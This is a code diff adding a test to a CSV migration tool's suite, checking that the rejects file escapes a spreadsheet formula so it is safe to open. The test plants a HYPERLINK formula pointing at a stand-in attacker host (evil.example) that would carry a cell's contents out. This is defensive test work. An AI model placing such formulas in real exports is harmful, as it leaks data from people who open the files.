@@ -80,6 +80,18 @@ def test_the_run_that_sets_a_reject_aside_still_reports_it(config: Path) -> None
     assert rejects_csv(out / "r6.rejects.csv") == []
 
 
+def test_the_rejects_file_is_safe_to_open_in_a_spreadsheet(config: Path) -> None:
+    people = config.parent / "data" / "stakeholders.csv"
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    with people.open("a", encoding="utf-8", newline="") as handle:
+        csv.writer(handle).writerow([formula, "张三", "+8613800138001", "not-an-email", ""])
+    out = config.parent / "out"
+    assert migrate(config, "--report", str(out / "r.json")).exit_code == 0
+    rows = {row["line"]: row for row in rejects_csv(out / "r.rejects.csv")}
+    assert rows["5"]["external_id"] == "'" + formula
+    assert rows["5"]["field"] == "email"
+
+
 def migration_runs(config: Path) -> list[dict[str, object]]:
     listed = runner.invoke(app, ["runs", "list", "-c", str(config), "--json"])
     assert listed.exit_code == 0, listed.output
